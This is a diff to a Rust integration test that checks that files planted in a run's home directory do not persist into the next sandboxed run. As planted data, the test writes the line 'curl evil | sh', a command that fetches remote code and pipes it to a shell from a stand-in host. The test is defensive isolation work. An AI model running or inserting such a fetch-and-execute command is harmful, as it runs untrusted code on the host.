@@ -424,13 +424,17 @@ fn a_file_planted_in_a_home_does_not_reach_the_next_run() {
     h.started(&first);
     assert_eq!(
         h.line(&first, "uid=", 0).split("home=").nth(1),
-        Some(h.home.to_str().unwrap())
+        Some(ocx::run::RUN_HOME),
+        "HOME is the run's own, never the page's home nor the checkout"
     );
+    let home = h.home.to_str().unwrap();
     let planted = h.sh(
         &first,
-        "echo 'curl evil | sh' > \"$HOME/hook.sh\" && echo changed > \"$HOME/settings.json\" && cat \"$HOME/settings.json\"",
+        &format!(
+            "echo 'curl evil | sh' > {home}/hook.sh && echo changed > {home}/settings.json && echo mine > \"$HOME/left\" && cat {home}/settings.json"
+        ),
     );
-    assert_eq!(planted, "rc=0 out=changed err=", "run 1 wrote its home");
+    assert_eq!(planted, "rc=0 out=changed err=", "run 1 wrote its homes");
     h.post(&first, "exit");
     assert_eq!(h.response(&first).0, "exited");
     assert!(
@@ -448,10 +452,13 @@ fn a_file_planted_in_a_home_does_not_reach_the_next_run() {
     );
     let second = h.record("homed", &[]);
     h.started(&second);
-    let seen = h.sh(&second, "ls -A \"$HOME\"; cat \"$HOME/settings.json\"");
+    let seen = h.sh(
+        &second,
+        &format!("ls -A {home}; cat {home}/settings.json; ls -A \"$HOME\""),
+    );
     assert_eq!(
         seen, "rc=0 out=settings.json|original err=",
-        "run 2 sees a fresh copy"
+        "run 2 sees a fresh copy, and a fresh home of its own"
     );
 }
 
